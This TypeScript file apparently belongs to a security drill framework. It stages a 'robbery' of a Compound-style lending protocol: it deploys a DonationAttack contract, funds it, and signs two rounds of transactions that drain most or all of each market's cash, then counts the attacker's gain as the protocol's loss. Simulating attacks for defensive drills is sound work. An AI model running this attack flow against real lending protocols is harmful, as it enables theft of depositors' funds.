// The drill's robbery: what the attacker prepares, what the two rounds take, and how the loss is counted.
import { encodeCall, type Actor, type Address, type Hex, type Kit, type Scene, type TransactionRequest } from 'firebreak'
import { amountOf, gained, holdingsOf } from '../shared/coins.ts'
import { number } from './compound.ts'
import type { Market, Protocol } from './market.ts'

/** What the attacker asks for: assets by token, and at most how much of each. */
export interface Haul {
  readonly assets: readonly Address[]
  readonly amounts: readonly bigint[]
}

export const cashOf = (kit: Kit, market: Market): Promise<bigint> => number(kit, market.cToken, 'getCash')

/** Dollars of every market's money, times this, cover all debts twice over at the lowest collateral factor. */
const donationTimes = 6n

export const donationOf = (protocol: Protocol): bigint => amountOf(protocol.listing.coin, protocol.supplied * donationTimes)

/** Deploys the attack contract with the few units that rounding costs it. */
export async function prepare(kit: Kit, protocol: Protocol, robber: Actor): Promise<Address> {
  const { contracts, lender, comptroller, listing } = protocol
  const address = await kit.deploy(contracts.DonationAttack, [lender, comptroller.address, listing.cToken.address], robber)
  await kit.call(robber, listing.coin.address, listing.token.abi, 'transfer', [address, 1_000n])
  return address
}

export function request(protocol: Protocol, contract: Address, haul: Haul, tip: bigint): TransactionRequest {
  const data = encodeCall(protocol.contracts.DonationAttack.abi, 'attack', [haul.assets, haul.amounts, donationOf(protocol)])
  return { to: contract, data, gas: 6_000_000n, tip }
}

/** The attacker's coins come from outside; what they grow by is what everybody else lost. */
export async function robbery(kit: Kit, protocol: Protocol): Promise<Pick<Scene, 'attack' | 'lost'>> {
  const { contracts, markets, listing, admin } = protocol
  const robber = await kit.actor('robber')
  await kit.call(admin, listing.coin.address, listing.token.abi, 'transfer', [robber.address, 1_000_000n])
  const coins = [...markets, listing].map((market) => market.coin)
  const before = await holdingsOf(kit, contracts.Token, coins, [robber.address])
  // The first round takes one asset whole and part of a second: the rest is what the second round is for.
  const order = kit.random.shuffle(markets)
  const part = kit.random.big(50n, 70n)
  const owned = new Set<Address>()
  let contract: Address | undefined

  const haulOf = async (round: number): Promise<Haul> => {
    const taken = round === 0 ? order.slice(0, 2) : order
    const amounts = await Promise.all(
      taken.map(async (market, i) => ((await cashOf(kit, market)) * (round === 0 && i === 1 ? part : 100n)) / 100n),
    )
    return { assets: taken.map((market) => market.coin.address), amounts }
  }
  const attack = async ({ tip, round }: { readonly tip: bigint; readonly round: number }): Promise<readonly Hex[]> => {
    // A run that starts from a snapshot finds its contract gone, and deploys it again.
    if (contract === undefined || (await kit.rpc('eth_getCode', [contract, 'latest'])) === '0x')
      contract = await prepare(kit, protocol, robber)
    owned.add(contract)
    return [await kit.sign(robber, request(protocol, contract, await haulOf(round), tip))]
  }
  const lost = async (): Promise<bigint> => gained(coins, before, await holdingsOf(kit, contracts.Token, coins, [robber.address, ...owned]))
  return { attack, lost }
}
